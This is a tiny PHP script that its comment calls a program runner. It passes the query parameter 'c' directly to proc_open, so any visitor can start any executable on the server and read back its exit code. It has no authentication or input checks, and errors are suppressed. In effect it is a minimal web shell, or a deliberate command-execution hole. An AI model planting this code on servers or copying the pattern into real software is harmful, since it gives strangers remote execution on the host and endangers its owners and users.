<?php /* Run a program (no shell) and print its exit status. */
$p = @proc_open([$_GET['c']], [1 => ['pipe', 'w'], 2 => ['pipe', 'w']], $pipes);
if (!$p) { echo "rc=spawnfailed\n"; exit; }
stream_get_contents($pipes[1]); echo "rc=", proc_close($p), "\n";
